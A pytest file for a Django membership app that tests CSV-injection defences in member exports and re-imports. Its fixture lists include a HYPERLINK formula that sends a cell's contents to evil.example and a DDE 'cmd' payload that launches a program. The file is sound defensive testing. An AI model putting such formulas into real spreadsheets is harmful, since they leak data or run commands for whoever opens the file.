"""CSV exports neutralize cells a spreadsheet would run as formulas (OWASP "CSV injection"), and
the roster import reads them back as they were stored."""

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from dangjian.core.csvcells import safe_cell
from dangjian.members.models import Member
from dangjian.roster.models import ImportJob
from dangjian.testing.world import World, make_member

# Names a member could be registered under (through a form, the API or an imported roster).
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1", "-2", "@SUM(A1:A9)"]
# Job titles, which are not stripped: also a leading tab and carriage return.
HOSTILE_TITLES = ["\t=1+2", "\r=cmd|' /C calc'!A0", "=1+1", "-3"]


def signed_in(user: Any) -> Client:
    client = Client()
    client.cookies["django_language"] = "en"
    client.force_login(user)
    return client


def _hostile_members(world: World, titles: list[str]) -> None:
    for n, (name, title) in enumerate(zip(HOSTILE_NAMES, titles, strict=True)):
        make_member(world.branch2, name, birth=date(1970 + n, 2, 3), job_title=title)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张伟", "张伟"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell(value: str | None, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.mark.parametrize("full", ["", "1"])
def test_member_csv_export_neutralizes_formulas(world: World, full: str) -> None:
    _hostile_members(world, HOSTILE_TITLES)
    response = signed_in(world.county_staff).get(
        "/members/export.csv", {"org": world.branch2.code, "full": full}
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert {"'" + name for name in HOSTILE_NAMES} <= set(cells)
    assert {"'" + title for title in HOSTILE_TITLES} <= set(cells)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # Every field quoted: a spreadsheet splitting on its own rules still sees one text cell.
    assert text.splitlines()[1].startswith('"')


def test_neutralized_export_reimports_unchanged(
    world: World, django_capture_on_commit_callbacks: Any
) -> None:
    # (The import trims cells, so titles with a leading tab or CR would not read back equal.)
    _hostile_members(world, ["=1+1", "-3", "+7", "@x"])
    client = signed_in(world.county_staff)
    body = b"".join(
        client.get("/members/export.csv", {"org": world.branch2.code, "full": "1"}).streaming_content  # type: ignore[attr-defined]
    )
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/orgs/{world.township.pk}/import/", {"file": SimpleUploadedFile("e.csv", body)})
        job = ImportJob.objects.get()
        client.post(f"/imports/{job.pk}/start/")
    job.refresh_from_db()
    assert (job.outcome, job.unchanged_rows, job.new_rows) == ("imported", 4, 0), job.message
    assert set(Member.objects.filter(organization=world.branch2).values_list("name", flat=True)) == set(
        HOSTILE_NAMES
    )
